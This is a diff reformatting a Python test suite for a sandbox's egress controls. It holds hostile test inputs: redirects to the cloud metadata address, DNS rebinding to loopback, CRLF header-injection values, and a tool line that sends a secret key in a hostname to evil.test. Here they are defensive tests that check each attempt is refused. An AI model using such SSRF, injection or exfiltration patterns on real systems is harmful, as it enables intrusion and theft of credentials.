@@ -38,21 +38,27 @@ def test_redirect_to_the_metadata_address(pool, server):
     url = f"http://{API}:{server.port}/redirect?to={metadata}"
     r = run_tool(pool, caught("EgressRefused"), egress=local_policy(server), args={"url": url})
     assert r.status is Status.OK, r.error
-    assert r.action["content"] == ("EgressRefused: 169.254.169.254 is not reachable: a link-local address "
-                                   "(169.254.169.254 is the cloud metadata service), never reachable unless "
-                                   "the egress policy names it")
+    assert r.action["content"] == (
+        "EgressRefused: 169.254.169.254 is not reachable: a link-local address "
+        "(169.254.169.254 is the cloud metadata service), never reachable unless "
+        "the egress policy names it"
+    )
     assert [line.split()[3] for line in http_lines(r)] == ["302", "refused"]  # checked again on the hop
 
 
 def test_redirect_to_a_name_that_resolves_to_the_metadata_address(pool, server):
     # The tenant allows *.evil.test (public hosts); the redirect's name resolves to metadata.
-    policy = (local_policy(server).with_host("*.evil.test", schemes=["http"])
-              .with_resolver(Resolver({API: ["127.0.0.1"], "metadata.evil.test": ["169.254.169.254"]})))
+    policy = (
+        local_policy(server)
+        .with_host("*.evil.test", schemes=["http"])
+        .with_resolver(Resolver({API: ["127.0.0.1"], "metadata.evil.test": ["169.254.169.254"]}))
+    )
     url = f"http://{API}:{server.port}/redirect?to=http://metadata.evil.test/latest/meta-data/"
     r = run_tool(pool, caught("EgressRefused"), egress=policy, args={"url": url})
     assert r.status is Status.OK, r.error
-    assert r.action["content"].startswith("EgressRefused: metadata.evil.test resolves to 169.254.169.254, "
-                                          "which is not reachable: a link-local address")
+    assert r.action["content"].startswith(
+        "EgressRefused: metadata.evil.test resolves to 169.254.169.254, which is not reachable: a link-local address"
+    )
 
 
 def test_redirect_to_the_metadata_address_in_ipv6_clothing(pool, server):
@@ -69,13 +75,18 @@ def test_redirect_to_the_metadata_address_in_ipv6_clothing(pool, server):
 
 def test_a_name_resolving_to_loopback_under_a_public_only_policy(pool, server, token):
     # The local server really listens on 127.0.0.1: only the address check stands between.
-    policy = (EgressPolicy().with_host("*.attacker.test", ports=[server.port], schemes=["http"])
-              .with_resolver(Resolver({"rebind.attacker.test": ["127.0.0.1"]})))
+    policy = (
+        EgressPolicy()
+        .with_host("*.attacker.test", ports=[server.port], schemes=["http"])
+        .with_resolver(Resolver({"rebind.attacker.test": ["127.0.0.1"]}))
+    )
     url = f"http://rebind.attacker.test:{server.port}/echo/{token}"
     r = run_tool(pool, caught("EgressRefused"), egress=policy, args={"url": url})
     assert r.status is Status.OK, r.error
-    assert r.action["content"] == ("EgressRefused: rebind.attacker.test resolves to 127.0.0.1, which is not "
-                                   "reachable: a loopback address, never reachable unless the egress policy names it")
+    assert r.action["content"] == (
+        "EgressRefused: rebind.attacker.test resolves to 127.0.0.1, which is not "
+        "reachable: a loopback address, never reachable unless the egress policy names it"
+    )
     assert server.hits_for(token) == []
 
 
@@ -87,8 +98,9 @@ def test_a_name_resolving_to_loopback_under_a_public_only_policy(pool, server, t
 def test_a_huge_response_stops_at_the_calls_cap(pool, server):
     policy = local_policy(server).with_limits(max_response_bytes=1024 * 1024)
     for route, reason in (("huge?bytes=500000000", "announces 500000000 bytes"), ("endless", "goes past it")):
-        r = run_tool(pool, caught("ResponseTooLarge"), egress=policy,
-                     args={"url": f"http://{API}:{server.port}/{route}"})
+        r = run_tool(
+            pool, caught("ResponseTooLarge"), egress=policy, args={"url": f"http://{API}:{server.port}/{route}"}
+        )
         assert r.status is Status.OK, r.error
         assert r.action["content"].startswith(f"ResponseTooLarge: the response from {API} {reason}")
         assert r.usage.http_bytes <= 1024 * 1024 + 1  # the supervisor stopped reading at the cap
@@ -96,11 +108,11 @@ def test_a_huge_response_stops_at_the_calls_cap(pool, server):
 
 def test_an_uncaught_huge_response_is_the_tools_runtime_error(pool, server):
     policy = local_policy(server).with_limits(max_response_bytes=256 * 1024)
-    source = f'''
+    source = f"""
 import requests
 def tool(conv):
     return str(len(requests.get("http://{API}:{server.port}/endless").content))
-'''
+"""
     r = run_tool(pool, source, egress=policy)
     assert r.status is Status.RUNTIME_ERROR and r.error.kind == "ResponseTooLarge"
 
@@ -111,7 +123,7 @@ def tool(conv):
 
 
 def test_a_slow_drip_ends_before_the_deadline_and_the_tool_can_answer(pool, server):
-    source = f'''
+    source = f"""
 import requests
 def tool(conv, route):
     try:
@@ -119,21 +131,23 @@ def tool(conv, route):
     except requests.Timeout as e:
         return {{"content": "fallback greeting (" + str(e) + ")"}}
     return "the drip finished?"
-'''
+"""
     for route in ("drip?every=0.05", "drip-headers?every=0.05"):
         r = run_tool(pool, source, egress=local_policy(server), args={"route": route}, deadline_ms=1500)
         # ok, not timeout: the supervisor ended the request before the call's deadline and
         # the tool still had time to answer without it
         assert r.status is Status.OK, (route, r.status, r.error)
-        assert r.action["content"] == f"fallback greeting (reading from {API} did not finish before the call's deadline)"
+        assert (
+            r.action["content"] == f"fallback greeting (reading from {API} did not finish before the call's deadline)"
+        )
 
 
 def test_an_uncaught_slow_drip_is_a_read_timeout_not_a_kill(pool, server):
-    source = f'''
+    source = f"""
 import requests
 def tool(conv):
     return requests.get("http://{API}:{server.port}/drip?every=0.05").text
-'''
+"""
     r = run_tool(pool, source, egress=local_policy(server), deadline_ms=1000)
     assert r.status is Status.RUNTIME_ERROR and r.error.kind == "ReadTimeout", (r.status, r.error)
     assert "read_timeout" in http_lines(r)[0]
@@ -146,8 +160,10 @@ def tool(conv):
 
 def test_another_tenants_allowlisted_host(pool, server, token):
     resolver = Resolver({"crm.tenant-a.test": ["127.0.0.1"], "crm.tenant-b.test": ["127.0.0.1"]})
-    policies = {"tenant-a": local_policy(server, "crm.tenant-a.test", resolver=resolver),
-                "tenant-b": local_policy(server, "crm.tenant-b.test", resolver=resolver)}
+    policies = {
+        "tenant-a": local_policy(server, "crm.tenant-a.test", resolver=resolver),
+        "tenant-b": local_policy(server, "crm.tenant-b.test", resolver=resolver),
+    }
     url = f"http://crm.tenant-b.test:{server.port}/echo/{token}"
     r = run_tool(pool, caught("EgressRefused"), egress=policies["tenant-a"], tenant="tenant-a", args={"url": url})
     assert r.status is Status.OK, r.error
@@ -165,7 +181,7 @@ def test_another_tenants_allowlisted_host(pool, server, token):
 
 
 def test_header_injection_from_a_tool(pool, server, token):
-    source = f'''
+    source = f"""
 import requests
 def tool(conv):
     url = "http://{API}:{server.port}/echo/{token}"
@@ -186,7 +202,7 @@ def tool(conv):
         except requests.InvalidURL as e:
             seen.append("InvalidURL")
     return {{"content": " ".join(seen)}}
-'''
+"""
     r = run_tool(pool, source, egress=local_policy(server))
     assert r.status is Status.OK, r.error
     assert r.action["content"] == "InvalidHeader InvalidHeader InvalidHeader InvalidHeader InvalidURL"
@@ -196,11 +212,18 @@ def tool(conv):
 
 def test_header_injection_from_a_compromised_child_reaches_the_pools_dispatch(pool, server, token):
     # What a child whose runtime is broken could send: the supervisor refuses it alone.
-    call = prepare(CallRequest(tenant="t1", bundle=compile_bundle({"tool.py": "def tool(conv):\n    return 1\n"}),
-                               function="tool", egress=local_policy(server)))
+    call = prepare(
+        CallRequest(
+            tenant="t1",
+            bundle=compile_bundle({"tool.py": "def tool(conv):\n    return 1\n"}),
+            function="tool",
+            egress=local_policy(server),
+        )
+    )
     for headers in ([["X-A", "1\r\nX-Injected: 1"]], [["X-A\r\nX-Injected", "1"]], [["X-A", "1\x00"]]):
-        body = json.dumps({"op": "http", "method": "GET", "url": f"http://{API}:{server.port}/echo/{token}",
-                           "headers": headers}).encode()
+        body = json.dumps(
+            {"op": "http", "method": "GET", "url": f"http://{API}:{server.port}/echo/{token}", "headers": headers}
+        ).encode()
         answer = json.loads(pool._answer_child(call, body, time.monotonic() + 5))
         assert answer["ok"] is False and answer["kind"] == "invalid_header"
     assert server.hits_for(token) == []
@@ -214,14 +237,14 @@ def test_header_injection_from_a_compromised_child_reaches_the_pools_dispatch(po
 
 def test_a_secret_sent_in_a_header_is_redacted_from_logs_and_errors(pool, server, token):
     secret = "sk-live-REDACT-ME-0123456789"
-    source = f'''
+    source = f"""
 import requests
 def tool(conv):
     key = conv.utils.get_secret("crm_key")
     r = requests.get("http://{API}:{server.port}/echo/{token}", headers={{"Authorization": "Bearer " + key}})
     log.info(r.text)                                   # the echo carries the secret back
     requests.get("http://" + key + ".evil.test/")      # refused: the error names the host (case-folded)
-'''
+"""
     r = run_tool(pool, source, egress=local_policy(server), secrets={"crm_key": secret})
     hit = server.hits_for(token)[0]
     assert hit["headers"]["Authorization"] == f"Bearer {secret}"  # it was sent
